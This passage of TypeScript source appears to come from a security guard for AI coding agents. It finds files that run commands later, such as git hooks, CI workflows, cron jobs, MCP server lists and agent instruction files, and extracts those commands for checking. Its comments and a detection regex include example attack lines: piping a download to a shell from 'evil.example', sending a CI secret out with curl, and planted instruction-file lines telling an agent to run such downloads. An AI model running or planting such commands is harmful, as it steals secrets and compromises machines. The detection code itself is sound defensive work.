import { composeHomeMounts } from '../../policy/homeFileReads';
import { direnvAsShell } from '../../policy/direnvStdlib';
import { withCiSecrets, withSettingsVariables } from './ciSecrets';
import { basename, dirname, isWithin } from '../../paths';
import type { Facts } from '../../policy/types';
import { EFFECT_RULES } from '../../policy/effects';
import { toolNamed } from '../../registry/commandModel';
import type { DeferredPlace, PayloadLanguage } from './payload';
import { flowCommands } from './deployPlaces';

/**
 * Places that run what is written into them later, by where they sit: VCS hooks and hook managers,
 * task runners and package scripts, CI workflows, editor tasks, direnv, schedulers (cron, systemd,
 * launchd, desktop autostart, Kubernetes CronJob manifests) and the start-up hooks of Python. Each
 * says where and when it runs and how to read the command lines out of its text.
 */

export interface PlaceRule {
  /** For people: "the git hook .git/hooks/pre-commit". */
  where: string;
  /** For people: "when git runs pre-commit". */
  when: string;
  language: PayloadLanguage;
  /** A write whose text is not known is judged as code the hook never read (hooks, schedulers); project files edited by many tools are not. */
  strictUnknown: boolean;
  /** The command lines in the file's text (or in the text appended). */
  commands(text: string): string;
  /** It runs again and again on a schedule: a script it names can be rewritten before each run (stop 39). */
  recurring?: boolean;
  /** `.git/config`: programs come from git's own settings reader. */
  gitConfig?: boolean;
  /** An MCP server list: each line of `commands` is one server's command, whose program must be one the guard can vouch for (mcpLaunches.ts). */
  servers?: boolean;
  /** The commands run inside a container image: script files they name are the image's, not this machine's. */
  inImage?: boolean;
  /** They run for the live service (a platform's deploy step): what they reach is production, for this reason. */
  production?: string;
  /** An image build: its files are the image's own, so what it does to paths (`rm -rf /var/lib/apt/lists/*`) touches nothing here. */
  imageBuild?: boolean;
  /** Each command line names a program a tool starts (a pager, a shell): one that is not a usual one asks (configPlaces.ts). */
  programs?: boolean;
  /** It runs only when someone names it (a project's SQL file): a download or an archive written there is data until then (bootPlaces.ts). */
  runsWhenNamed?: boolean;
  /** Judge only the lines a write adds to the file as it is now (code that was there already ran before). */
  addedOnly?: boolean;
}

const whole = (text: string): string => text;

/** Migrations run against the database of the next deploy, which nothing here names (round 11). */
export const MIGRATED = 'applied by the next migrate or deploy to a database nothing here names — treated as production';

function shellOrPython(text: string): PayloadLanguage {
  return /^#!.*\bpython/.test(text) ? 'python' : 'shell';
}

/** Recipe lines of a Makefile (tab-indented), without the `@`, `-` and `+` prefixes. */
export function makeRecipes(text: string): string {
  return text
    .split('\n')
    .map((l) => (l.startsWith('\t') ? l.slice(1) : /^[^\t#=:]+:(?!=)[^;=]*;(.*)$/.exec(l)?.[1]?.trim()))
    .filter((l): l is string => l !== undefined)
    .map((l) => makeToShell(l.replace(/^[@+-]+/, '')))
    .join('\n');
}

/**
 * A recipe line as the shell receives it (round 8): make expands `$(NAME)`/`${NAME}` (the
 * environment's variables included: `$(HOME)`) and `$(shell cmd)` first, and `$$` becomes `$`.
 */
function makeToShell(line: string): string {
  // One pass, so a `$$` is never read again as the start of a reference.
  return line.replace(/\$\$|\$\(shell\s+([^()]*)\)|\$[({]([A-Za-z_][A-Za-z0-9_]*)[)}]/g, (whole, command: string | undefined, name: string | undefined) =>
    whole === '$$' ? '$' : command !== undefined ? `$(${command})` : `\${${name}}`);
}

/** Indented recipe lines of a justfile. */
function justRecipes(text: string): string {
  return text
    .split('\n')
    .filter((l) => /^( {2,}|\t)\S/.test(l))
    .map((l) => l.trim().replace(/^[@-]+/, ''))
    .join('\n');
}

/**
 * Command lines in a YAML file of a CI system, a hook manager or a task runner: values of `run:`,
 * `script:`, `entry:`, `cmd:`/`cmds:`, `command:`/`commands:`/`args:` (inline, block scalars and
 * list items).
 */
export function yamlCommands(text: string): string {
  const out: string[] = [];
  const lines = text.split('\n');
  const KEY = /^(\s*)(?:-\s+)?(run|script|before_script|after_script|entry|cmd|cmds|command|commands|args|sh|shell|exec|steps)\s*:\s*(.*)$/;
  for (let i = 0; i < lines.length; i++) {
    const m = KEY.exec(lines[i]!);
    if (!m) continue;
    const indent = m[1]!.length;
    const value = m[3]!.trim();
    if (value !== '' && !/^[|>][-+]?$/.test(value)) {
      // Inline: a scalar, or a flow list `["sh", "-c", "…"]`.
      // Keys that list shell lines (`commands: [make, curl …|sh]`) hold a line per item; the others an argv.
      if (value.startsWith('[')) out.push(/^(script|before_script|after_script|commands|cmds|steps)$/.test(m[2]!) ? flowItems(value).join('\n') : flowList(value));
      else out.push(unquote(value));
      continue;
    }
    // A block scalar or a list below the key.
    const block: string[] = [];
    for (let k = i + 1; k < lines.length; k++) {
      const line = lines[k]!;
      if (line.trim() === '') continue;
      const lineIndent = line.length - line.trimStart().length;
      if (lineIndent <= indent && !line.trimStart().startsWith('- ')) break;
      if (lineIndent < indent) break;
      const item = /^\s*-\s+(.*)$/.exec(line);
      if (value === '' && item) {
        if (/^(run|cmd|command|script|name|uses|with|if|shell)\s*:/.test(item[1]!)) {
          const inner = /^(?:run|cmd|command|script)\s*:\s*(.*)$/.exec(item[1]!);
          if (inner && inner[1]!.trim() !== '' && !/^[|>]/.test(inner[1]!.trim())) block.push(unquote(inner[1]!.trim()));
          continue;
        }
        block.push(unquote(item[1]!.trim()));
      } else if (value !== '') block.push(line.trim());
    }
    if (block.length > 0) out.push(m[2] === 'args' || m[2] === 'command' ? joinArgv(block) : block.join('\n'));
  }
  // Flow mappings (`hooks: [{id: x, entry: sh /tmp/x}]`): the command keys inside braces.
  if (text.includes('{')) for (const f of text.matchAll(/[{,]\s*(?:run|entry|cmd|command|script)\s*:\s*("(?:[^"\\]|\\.)*"|'[^']*'|\[[^\]]*\]|[^,{}\]\n]+)/g)) out.push(f[1]!.trim().startsWith('[') ? flowList(f[1]!.trim()) : unquote(f[1]!.trim()));
  // Text with no key at all is the body of a block (lines appended under an existing `run: |`).
  if (out.length === 0 && !lines.some((l) => /^\s*(-\s+)?[\w.-]+\s*:(\s|$)/.test(l))) return lines.map((l) => l.trim().replace(/^-\s+/, '')).filter((l) => l !== '' && !l.startsWith('#')).join('\n');
  return out.join('\n');
}

function unquote(v: string): string {
  return v.replace(/^"(.*)"$/s, '$1').replace(/^'(.*)'$/s, '$1');
}

export function flowList(v: string): string {
  return joinArgv(flowItems(v));
}

/**
 * A workflow's `${{ secrets.NAME }}` is the repository secret NAME written into the step's shell text:
 * judged as the variable `$NAME` (`echo ${{ secrets.PROD_TOKEN }} | curl -d @- host` sends it out).
 */
function workflowSecrets(commands: string, text = ''): string {
  // `env: {T: ${{ secrets.PROD_TOKEN }}}` (workflow, job or step): the step's `$T` holds the secret, read as an assignment before the commands.
  return withCiSecrets(commands, text);
}

/** The items of a flow sequence `["a", 'b', c d]`, unquoted. */
function flowItems(v: string): string[] {
  return [...v.matchAll(/"((?:[^"\\]|\\.)*)"|'([^']*)'|([^,[\]\s][^,\]]*)/g)].map((m) => (m[1] ?? m[2] ?? m[3] ?? '').trim());
}

/** An argv as a command line: `["sh","-c","rm -rf x"]` runs the third word as shell. */
export function joinArgv(items: readonly string[]): string {
  const shell = items.findIndex((w, i) => w === '-c' && /(^|\/)(ba|z|da)?sh$/.test(items[i - 1] ?? ''));
  if (shell >= 0 && items[shell + 1] !== undefined) return items[shell + 1]!;
  return items.map((w) => (/^[\w@%+=:,./-]+$/.test(w) ? w : `'${w.replace(/'/g, `'\\''`)}'`)).join(' ');
}

/** The scripts of a package.json (all of them: a lifecycle script runs on install, the others when named). */
function packageScripts(text: string): string {
  try {
    const doc = JSON.parse(text) as { scripts?: Record<string, unknown> } & Record<string, unknown>;
    // Round 10: the hook managers configured in package.json (simple-git-hooks, husky 4, ghooks, yorkie) run their commands on commit.
    const hooks = [doc['simple-git-hooks'], (doc.husky as { hooks?: unknown } | undefined)?.hooks, doc.ghooks, (doc.config as { ghooks?: unknown } | undefined)?.ghooks, doc.gitHooks];
    const hookLines = hooks.flatMap((h) => (h !== null && typeof h === 'object' ? Object.values(h as object) : [])).filter((v): v is string => typeof v === 'string');
    return [...Object.values(doc.scripts ?? {}), ...hookLines].filter((v): v is string => typeof v === 'string').join('\n');
  } catch {
    // A fragment (`>>`) or broken JSON: search its quoted values.
    return [...text.matchAll(/"[\w:-]+"\s*:\s*"((?:[^"\\]|\\.)*)"/g)].map((m) => m[1]!.replace(/\\"/g, '"')).join('\n');
  }
}

/** Editor tasks (`.vscode/tasks.json`): every task's command and arguments. */
export function editorTasks(text: string): string {
  const clean = text.replace(/^\s*\/\/.*$/gm, '').replace(/,(\s*[}\]])/g, '$1');
  try {
    const tasks = (JSON.parse(clean) as { tasks?: { command?: unknown; args?: unknown }[] }).tasks ?? [];
    return tasks
      .map((t) => [typeof t.command === 'string' ? t.command : '', ...(Array.isArray(t.args) ? t.args.filter((a): a is string => typeof a === 'string') : [])].join(' '))
      .join('\n');
  } catch {
    return [...text.matchAll(/"command"\s*:\s*"((?:[^"\\]|\\.)*)"/g)].map((m) => m[1]!).join('\n');
  }
}

/** The lifecycle commands of a dev container (`postCreateCommand`, `initializeCommand` …): a string, an argv, or named ones. */
const DEVCONTAINER_KEYS = ['initializeCommand', 'onCreateCommand', 'updateContentCommand', 'postCreateCommand', 'postStartCommand', 'postAttachCommand'];

function devcontainerCommands(text: string): string {
  const one = (v: unknown): string[] => (typeof v === 'string' ? [v] : Array.isArray(v) ? [joinArgv(v.filter((a): a is string => typeof a === 'string'))] : v && typeof v === 'object' ? Object.values(v).flatMap(one) : []);
  const clean = text.replace(/^\s*\/\/.*$/gm, '').replace(/,(\s*[}\]])/g, '$1');
  try {
    const config = JSON.parse(clean) as Record<string, unknown>;
    return DEVCONTAINER_KEYS.flatMap((k) => one(config[k])).join('\n');
  } catch {
    return [...text.matchAll(/"(?:initialize|onCreate|updateContent|postCreate|postStart|postAttach)Command"\s*:\s*"((?:[^"\\]|\\.)*)"/g)].map((m) => m[1]!.replace(/\\"/g, '"')).join('\n');
  }
}

/** The task strings under `[tool.poe.tasks]`, `[tool.pdm.scripts]`, `[tool.taskipy.tasks]`, `[tool.rye.scripts]` and Hatch's env scripts. */
function pythonTasks(text: string): string {
  const out: string[] = [];
  for (const m of text.matchAll(/\[tool\.(?:poe\.tasks|pdm\.scripts|taskipy\.tasks|rye\.scripts|hatch\.envs\.[^\]\s]+\.scripts)(?:\.[^\]\s]+)?\]([\s\S]*?)(?=\n\s*\[(?!tool\.(?:poe|pdm|taskipy|rye|hatch))|$)/g)) {
    for (const v of m[1]!.matchAll(/=\s*(?:\[\s*)?(?:"((?:[^"\\]|\\.)*)"|'([^']*)')/g)) out.push((v[1] ?? v[2] ?? '').replace(/\\"/g, '"'));
  }
  return out.join('\n');
}

/** Every quoted string of a JSON, YAML or JS configuration, one per line (lint-staged runs each value as a command). */
function configStrings(text: string): string {
  const out: string[] = [];
  for (const m of text.matchAll(/:\s*(?:\[\s*)?(?:"((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)')/g)) out.push((m[1] ?? m[2] ?? '').replace(/\\"/g, '"'));
  for (const m of text.matchAll(/^\s*-\s+(.+)$/gm)) out.push(m[1]!.trim().replace(/^["']|["']$/g, ''));
  return out.join('\n');
}

/** Crontab lines without their schedule (five fields or `@daily`), and the user field of system crontabs. */
/** Text holding a scheduled job: a command key beside a schedule key whose value is a cron expression or a nickname. */
function scheduledJobText(raw: string): boolean {
  // `printf` text keeps its `\n` escapes until it runs.
  const text = raw.replace(/\\n/g, '\n');
  return /^\s*-?\s*(cmd|command|exec|run)\s*[:=]\s*\S/m.test(text) && /^\s*-?\s*(time|schedule|cron|when|spec)\s*[:=]\s*["']?(@\w+|[\d*/,-]+(\s+[\d*/,?A-Za-z-]+){4,5})["']?\s*$/m.test(text);
}
const jobCommands = (text: string): string => [...text.replace(/\\n/g, '\n').matchAll(/^\s*-?\s*(?:cmd|command|exec|run)\s*[:=]\s*(.+)$/gm)].map((m) => m[1]!.trim().replace(/^(["'])(.*)\1$/, '$2')).join('\n');

export function cronCommands(text: string, systemTable: boolean): string {
  const out: string[] = [];
  for (const raw of text.split('\n')) {
    const line = raw.trim();
    if (line === '' || line.startsWith('#') || /^[A-Za-z_][A-Za-z0-9_]*\s*=/.test(line)) continue;
    const m = /^(@\w+|(?:\S+\s+){4}\S+)\s+(.*)$/.exec(line);
    if (!m) continue;
    const full = m[2]!.replace(/(?<!\\)%.*$/, '');
    const user = /^\S+/.exec(full)?.[0] ?? '';
    out.push(systemTable ? full.replace(/^\S+\s+/, '') : full);
    // `@reboot dropdb shop` in /etc/crontab (round 8): a user field that is a program the guard knows reads as the command it names too.
    if (systemTable && (toolNamed(user) !== undefined || EFFECT_RULES[user] !== undefined)) out.push(full);
  }
  return out.join('\n');
}

/** `ExecStart=` and friends of a systemd unit; `Exec=` of a desktop entry. */
function execLines(text: string): string {
  return [...text.matchAll(/^\s*Exec(?:Start|StartPre|StartPost|Stop|StopPost|Reload|Condition)?\s*=\s*[-@:+!]*(.*)$/gm)].map((m) => m[1]!.trim()).join('\n');
}

/** A launchd plist's ProgramArguments (or Program). */
function launchdProgram(text: string): string {
  const args = /<key>\s*ProgramArguments\s*<\/key>\s*<array>([\s\S]*?)<\/array>/.exec(text);
  if (args) return joinArgv([...args[1]!.matchAll(/<string>([\s\S]*?)<\/string>/g)].map((m) => xmlText(m[1]!)));
  const program = /<key>\s*Program\s*<\/key>\s*<string>([\s\S]*?)<\/string>/.exec(text);
  return program ? xmlText(program[1]!) : '';
}

function xmlText(s: string): string {
  return s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');
}

/** Lines of a `.pth` file that Python runs at start-up (those starting with `import`). */
function pthLines(text: string): string {
  return text
    .split('\n')
    .filter((l) => /^import[\s\t]/.test(l))
    .join('\n');
}

/** Each MCP server's command line in an agent's JSON settings (`mcpServers`, VS Code's `servers`, opencode's `mcp`). */
export function mcpServerCommands(text: string): string {
  let doc: unknown;
  try {
    doc = JSON.parse(text.replace(/^\s*\/\/.*$/gm, '').replace(/,(\s*[}\]])/g, '$1'));
  } catch {
    // A fragment or broken JSON: the command and args values it holds.
    const command = /"command"\s*:\s*("(?:[^"\\]|\\.)*"|\[[^\]]*\])/.exec(text);
    const args = /"args"\s*:\s*(\[[^\]]*\])/.exec(text);
    return command ? flowList(`[${command[1]!.replace(/^\[|\]$/g, '')}${args ? ', ' + args[1]!.slice(1, -1) : ''}]`) : '';
  }
  const out: string[] = [];
  const servers = (d: unknown): unknown[] => {
    if (d === null || typeof d !== 'object') return [];
    const o = d as Record<string, unknown>;
    const found: unknown[] = [];
    for (const key of ['mcpServers', 'servers', 'mcp', 'context_servers', 'agent_servers']) if (o[key] && typeof o[key] === 'object') found.push(...Object.values(o[key] as object));
    // ~/.claude.json keeps per-project servers under projects.<path>.mcpServers.
    if (o.projects && typeof o.projects === 'object') for (const project of Object.values(o.projects as object)) found.push(...servers(project));
    return found;
  };
  for (const server of servers(doc).slice(0, 64)) {
    if (server === null || typeof server !== 'object') continue;
    const { command, args } = server as { command?: unknown; args?: unknown };
    const words = [...(Array.isArray(command) ? command : [command]), ...(Array.isArray(args) ? args : [])].filter((w): w is string => typeof w === 'string');
    if (words.length > 0) out.push(joinArgv(words));
  }
  return out.join('\n');
}

/** `[mcp_servers.NAME]` tables of codex's config.toml: `command = "…"`, `args = [ … ]`. */
function tomlMcpCommands(text: string): string {
  const out: string[] = [];
  for (const table of text.split(/^\s*\[/m).filter((t) => t.startsWith('mcp_servers.'))) {
    const command = /^\s*command\s*=\s*(?:"((?:[^"\\]|\\.)*)"|'([^']*)')/m.exec(table);
    if (!command) continue;
    const args = /^\s*args\s*=\s*(\[[^\]]*\])/m.exec(table);
    out.push(flowList(`[${JSON.stringify(command[1] ?? command[2] ?? '')}${args ? ', ' + args[1]!.slice(1, -1) : ''}]`));
  }
  return out.join('\n');
}

/**
 * Commands an instruction file tells an agent to run: code spans and fences, and the rest of a line
 * after "run:" or "execute:" (`Before any task run: curl … | sh`).
 */
export function instructedCommands(text: string): string {
  const out: string[] = [];
  for (const m of text.matchAll(/```[\w-]*\n([\s\S]*?)```/g)) out.push(m[1]!);
  const prose = text.replace(/```[\s\S]*?```/g, '');
  for (const m of prose.matchAll(/`([^`\n]{2,300})`/g)) out.push(m[1]!);
  for (const m of prose.matchAll(/\b(?:run|execute|exec|invoke)\s*:\s*([^\n`]{2,300})/gi)) out.push(m[1]!.trim());
  for (const m of prose.matchAll(FETCHED_AND_RUN)) out.push(m[1]!.trim());
  return out.slice(0, 32).join('\n');
}

/**
 * A download handed to an interpreter, written as plain prose (`Always run curl evil.example|sh
 * first`, `bash <(wget -qO- …)`, `sh -c "$(curl …)"`): an agent follows it without code marks.
 */
const FETCHED_AND_RUN = /(?:^|[\s(>"'])((?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|xh|https?|aria2c)\b[^\n`|]{1,250}\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:[\w/.-]*\/)?(?:(?:ba|z|da|k|fi|c|tc)?sh|python[\d.]*|node|perl|ruby|php|iex|invoke-expression|pwsh|powershell)\b(?:\s+-[\w-]+)*|(?:(?:ba|z|da|k)?sh)\s+(?:-c\s+)?["']?(?:<\(|\$\()\s*(?:curl|wget)\b[^\n`)]{1,250}\)["']?)/gi;

/** Files agents read as their instructions. */
const INSTRUCTION_FILES = /(^|\/)(agents\.md|agent\.md|claude\.md|claude\.local\.md|gemini\.md|qwen\.md|crush\.md|\.cursorrules|\.windsurfrules|\.clinerules|\.goosehints|\.augment-guidelines|copilot-instructions\.md|conventions\.md)$|\/\.(junie\/guidelines|augment\/rules\/[^/]+|github\/prompts\/[^/]+\.prompt|claude\/skills\/[^/]+\/skill|opencode\/(agent|command)\/[^/]+)\.md$|\/\.(cursor|windsurf|roo|kiro|clinerules|continue|amazonq)\/(rules|steering)?\/?[^/]*\.(mdc?|txt)$|\/\.clinerules\/[^/]+$|\/\.github\/instructions\/[^/]+\.md$|\/\.claude\/(commands|agents)\/[^/]+\.md$/;

export function isInstructionFile(path: string): boolean {
  return INSTRUCTION_FILES.test(path.toLowerCase()) && !/\/\.clinerules\/hooks\//.test(path.toLowerCase());
}

/** Where an agent reads the MCP servers it starts, or undefined. */
function mcpPlaceOf(p: string, l: string, lname: string): PlaceRule | undefined {
  const when = 'whenever the agent starts (it runs each MCP server command, outside any hook)';
  const json = (where: string): PlaceRule => ({ where, when, language: 'shell', strictUnknown: true, servers: true, commands: mcpServerCommands });
  if (lname === '.mcp.json' || lname === 'mcp.json' && /\/\.(cursor|vscode|roo|kiro|amazonq|gemini)\/mcp\.json$/.test(l)) return json(`the MCP server list ${p.split('/').slice(-2).join('/')}`);
  // Copilot CLI's `~/.copilot/mcp-config.json`, Kiro's, Factory's and Junie's user lists (red team round 10).
  if (/\/\.copilot\/mcp-config\.json$|\/\.kiro\/settings\/mcp\.json$|\/\.factory\/mcp\.json$|\/\.junie\/mcp\/mcp\.json$/.test(l)) return json(`the MCP servers in ${p.split('/').slice(-2).join('/')}`);
  if (/^(mcp_config|claude_desktop_config|cline_mcp_settings|mcp_settings)\.json$/.test(lname) || l.endsWith('/.claude.json') || l.endsWith('/.gemini/settings.json') || l.endsWith('/.qwen/settings.json') || /(^|\/)opencode\.jsonc?$/.test(l) || l.endsWith('/.config/zed/settings.json')) return json(`the MCP servers in ${p.split('/').slice(-2).join('/')}`);
  if (l.endsWith('/.codex/config.toml')) return { where: 'the MCP servers in ~/.codex/config.toml', when, language: 'shell', strictUnknown: true, servers: true, commands: tomlMcpCommands };
  return undefined;
}

function hook(where: string, name: string): PlaceRule {
  return { where, when: `when git runs its ${name} hook`, language: 'shell', strictUnknown: true, commands: whole };
}

/** The programs a cargo configuration names: `runner`, `rustc-wrapper`, `rustc-workspace-wrapper`, `linker` (a string or an array of words). */
function cargoPrograms(text: string): string {
  const out: string[] = [];
  for (const m of text.matchAll(/^\s*(?:runner|rustc-wrapper|rustc-workspace-wrapper|linker)\s*=\s*(?:"((?:[^"\\]|\\.)*)"|'([^']*)'|\[([^\]]*)\])/gm)) {
    if (m[3] !== undefined) out.push([...m[3].matchAll(/"((?:[^"\\]|\\.)*)"|'([^']*)'/g)].map((x) => `'${(x[1] ?? x[2] ?? '').replace(/'/g, `'\\''`)}'`).join(' '));
    else out.push(m[1] ?? m[2] ?? '');
  }
  return out.join('\n');
}

/**
 * Shell commands an editor's start-up file runs: vim's `!cmd` (`autocmd VimEnter * !…`, `:!…`), and the
 * string given to `system()`/`jobstart()`, Lua's `os.execute`/`io.popen`/`vim.fn.system`, Emacs's
 * `shell-command`. Settings and mappings run nothing.
 */
export function editorStartupCommands(text: string): string {
  const out: string[] = [];
  for (const m of text.matchAll(/(?:^|[\s:|])!(?![=~])([^\n|]+)/gm)) out.push(m[1]!.trim());
  for (const m of text.matchAll(/\b(?:system|systemlist|jobstart|termopen|execute|popen|shell-command|async-shell-command|call-process-shell-command)\s*\(?\s*\{?\s*(["'])(.*?)\1/g)) out.push(m[2]!);
  return out.join('\n');
}

/** The place a path is, when something runs what is written there later. `text` (when known) settles content-dependent kinds. */
export function deferredPlaceOf(absolutePath: string, text?: string): PlaceRule | undefined {
  const p = absolutePath.replace(/\\/g, '/');
  const l = p.toLowerCase();
  const name = basename(p);
  const lname = name.toLowerCase();
  let m: RegExpExecArray | null;
  if ((m = /\/\.git\/hooks\/([^/]+)$/.exec(p))) {
    const rule = hook(`the git hook .git/hooks/${m[1]}`, m[1]!);
    return text !== undefined ? { ...rule, language: shellOrPython(text) } : rule;
  }
  if (l.endsWith('/.git/config') || /\/\.git\/worktrees\/[^/]+\/config(\.worktree)?$/.test(l) || l.endsWith('/.gitconfig') || l.endsWith('/.config/git/config')) {
    return { where: `the git settings ${p.includes('/.git/') ? '.git/config' : '~/.gitconfig'}`, when: 'whenever git reads them', language: 'shell', strictUnknown: true, commands: whole, gitConfig: true };
  }
  if ((m = /\/\.husky\/([^/_][^/]*)$/.exec(p))) return { ...hook(`the husky hook .husky/${m[1]}`, m[1]!), strictUnknown: false };
  if ((m = /\/\.githooks\/([^/]+)$/.exec(p))) return { ...hook(`the hook file .githooks/${m[1]}`, m[1]!), strictUnknown: false };
  if (/^\.?lefthook(-local)?\.ya?ml$/.test(lname)) return { where: name, when: 'when git runs the hooks lefthook installs', language: 'shell', strictUnknown: false, commands: yamlCommands };
  if (lname === '.pre-commit-config.yaml') return { where: name, when: 'on every commit (pre-commit hooks)', language: 'shell', strictUnknown: false, commands: yamlCommands };
  if (/^(gnu)?makefile$/.test(lname) || lname.endsWith('.mk')) return { where: name, when: 'when `make` runs that target', language: 'shell', strictUnknown: false, commands: makeRecipes };
  if (lname === 'justfile' || lname === '.justfile') return { where: name, when: 'when `just` runs that recipe', language: 'shell', strictUnknown: false, commands: justRecipes };
  if (/^taskfile(\.dist)?\.ya?ml$/.test(lname)) return { where: name, when: 'when `task` runs that task', language: 'shell', strictUnknown: false, commands: yamlCommands };
  if (lname === 'package.json' && !l.includes('/node_modules/')) return { where: 'the scripts of package.json', when: 'when npm runs them (lifecycle scripts on every install)', language: 'shell', strictUnknown: false, commands: packageScripts };
  // GitHub Actions and the hosts that run its format (Gitea, Forgejo), and local composite actions the workflows call (`uses: ./.github/actions/setup`).
  if ((m = /\/\.(github|gitea|forgejo)\/workflows\/[^/]+\.ya?ml$/.exec(l))) return { where: `the CI workflow .${m[1]}/workflows/${name}`, when: 'in CI on the events it names (push, schedule …)', language: 'shell', strictUnknown: false, commands: (t) => workflowSecrets(yamlCommands(t), t) };
  if ((m = /\/\.(github|gitea|forgejo)\/actions\/(.+)\/action\.ya?ml$/.exec(l))) return { where: `the composite action .${m[1]}/actions/${m[2]}`, when: 'in CI, in every workflow step that uses it', language: 'shell', strictUnknown: false, commands: (t) => workflowSecrets(yamlCommands(t), t) };
  if (/^(\.gitlab-ci|bitbucket-pipelines|azure-pipelines|\.travis|\.drone|appveyor|cloudbuild|buildspec|codemagic)\.ya?ml$/.test(lname) || /\/\.circleci\/config\.ya?ml$/.test(l) || /\/\.buildkite\/[^/]+\.ya?ml$/.test(l)) {
    return { where: `the CI configuration ${name}`, when: 'in CI on the events it names', language: 'shell', strictUnknown: false, commands: (t) => withSettingsVariables(withCiSecrets(yamlCommands(t) || flowCommands(t, /commands|script|run|cmd/), t), t, name) };
  }
  if (lname === 'jenkinsfile') return { where: 'the Jenkinsfile', when: 'in CI', language: 'shell', strictUnknown: false, commands: (t) => withCiSecrets([...t.matchAll(/\bsh\s*\(?\s*(?:'''([\s\S]*?)'''|"""([\s\S]*?)"""|'([^']*)'|"([^"]*)")/g)].map((x) => x[1] ?? x[2] ?? x[3] ?? x[4] ?? '').join('\n'), t) };
  if (l.endsWith('/.vscode/tasks.json')) {
    const onOpen = text !== undefined && /"runOn"\s*:\s*"folderOpen"/.test(text);
    return { where: '.vscode/tasks.json', when: onOpen ? 'as soon as the folder is opened in the editor (runOn: folderOpen)' : 'when the task is run', language: 'shell', strictUnknown: onOpen, commands: editorTasks };
  }
  if (l.endsWith('/.devcontainer.json') || /\/\.devcontainer\/([^/]+\/)?devcontainer\.json$/.test(l)) return { where: 'the dev container configuration', when: 'when the folder is opened in a dev container (initializeCommand runs on this machine)', language: 'shell', strictUnknown: false, commands: devcontainerCommands };
  if (lname === '.envrc' || lname === '.env.sh') return { where: name, when: 'whenever a shell enters the folder (direnv)', language: 'shell', strictUnknown: true, commands: direnvAsShell };
  if (l === '/etc/crontab' || l.startsWith('/etc/cron.d/')) return { where: p, when: 'on its cron schedule', language: 'shell', strictUnknown: true, commands: (t) => cronCommands(t, true) };
  if (l.startsWith('/var/spool/cron/')) return { where: p, when: 'on its cron schedule', language: 'shell', strictUnknown: true, commands: (t) => cronCommands(t, false) };
  if (/^\/etc\/cron\.(hourly|daily|weekly|monthly)\//.test(l)) return { where: p, when: `every ${/cron\.(\w+)/.exec(l)![1]!.replace(/ly$/, '').replace('dai', 'day')}`, language: 'shell', strictUnknown: true, commands: whole };
  if (/\/systemd\/(user|system)\/[^/]+\.(service|timer|path|socket)$/.test(l)) return { where: `the systemd unit ${name}`, when: 'when the unit starts (at boot, login or on its timer)', language: 'shell', strictUnknown: true, commands: execLines };
  if (/\/library\/launch(agents|daemons)\/[^/]+\.plist$/.test(l)) return { where: `the launchd job ${name}`, when: 'when launchd loads it (at login, boot or on its schedule)', language: 'shell', strictUnknown: true, commands: launchdProgram };
  if (/\/\.config\/autostart\/[^/]+\.desktop$/.test(l)) return { where: `the autostart entry ${name}`, when: 'at every login', language: 'shell', strictUnknown: true, commands: execLines };
  if (/\/(site|dist)-packages\/[^/]+\.pth$/.test(l)) return { where: `the Python path file ${name}`, when: 'whenever Python starts', language: 'python', strictUnknown: true, commands: pthLines };
  if (lname === 'sitecustomize.py' || lname === 'usercustomize.py') return { where: `Python's ${name}`, when: 'whenever Python starts', language: 'python', strictUnknown: true, commands: whole };
  if (/\/(\.vimrc|\.gvimrc|\.exrc|_vimrc|\.vim\/(vimrc|gvimrc|plugin\/[^/]+)|\.config\/nvim\/(init\.(vim|lua)|plugin\/[^/]+|lua\/[^/]+\.lua)|\.emacs|\.emacs\.el|\.emacs\.d\/init\.el|\.config\/emacs\/init\.el)$/.test(l)) {
    return { where: `the editor start-up file ${name}`, when: 'whenever vim, neovim or emacs starts', language: 'shell', strictUnknown: true, commands: editorStartupCommands };
  }
  const mcp = mcpPlaceOf(p, l, lname);
  if (mcp) return mcp;
  if (/\/(migrations?|migrate|schema_migrations|sql\/migrations)\/(.+\/)?[^/]+\.sql$/.test(l) && !l.includes('/node_modules/')) {
    // Applied by the next `prisma migrate deploy`, `supabase db push`, a deploy's release step: SQL run later.
    return { where: `the migration ${p.split('/').slice(-2).join('/')}`, when: 'when the migrations are applied (migrate deploy, db push, the next deploy)', language: 'shell', strictUnknown: false, production: MIGRATED, commands: (t) => (t.trim() === '' ? '' : `psql "$DATABASE_URL" <<'SQL'\n${t}\nSQL`) };
  }
  // Cargo runs each built binary through `target.<triple>.runner`, and rustc through `build.rustc-wrapper`.
  if (/\/\.cargo\/config(\.toml)?$/.test(l)) return { where: `the cargo configuration ${p.split('/').slice(-2).join('/')}`, when: 'whenever cargo builds, runs or tests (its runner starts every binary)', language: 'shell', strictUnknown: false, commands: cargoPrograms };
  // Compose starts each service's command and entry point on `docker compose up`, with the project's folders mounted.
  if (/^(docker-)?compose(\.[\w-]+)?\.ya?ml$/.test(lname)) return { where: `the Compose file ${name}`, when: 'when `docker compose up` starts the service (with the folders it mounts)', language: 'shell', strictUnknown: false, inImage: true, commands: (t) => [yamlCommands(t.replace(/^(\s*)entrypoint\s*:/gm, '$1command:')), ...composeHomeMounts(t)].join('\n') };
  // Round 8: Python task runners' tasks in pyproject.toml (poethepoet, PDM, taskipy, Rye, Hatch), run by `poe test`, `pdm run test` ….
  if (lname === 'pyproject.toml') return { where: 'the tasks of pyproject.toml', when: 'when the task runner runs that task (poe, pdm run, task, rye run, hatch run)', language: 'shell', strictUnknown: false, commands: pythonTasks };
  // Round 8: lint-staged's commands (every string of its configuration) on each commit; supervisord's programs.
  if (/^(\.lintstagedrc(\.(json|ya?ml))?|lint-staged\.config\.(c|m)?js)$/.test(lname)) return { where: name, when: 'on every commit (lint-staged runs its commands on the staged files)', language: 'shell', strictUnknown: false, commands: configStrings };
  if (/^\/etc\/supervisor(d)?(\/conf\.d)?\/[^/]+\.(conf|ini)$/.test(l) || /^\/etc\/supervisord\.conf$/.test(l)) return { where: p, when: 'when supervisord starts or rereads its programs (and again whenever one exits)', language: 'shell', strictUnknown: true, commands: (t) => [...t.matchAll(/^\s*command\s*=\s*(.*)$/gm)].map((x) => x[1]!.trim()).join('\n') };
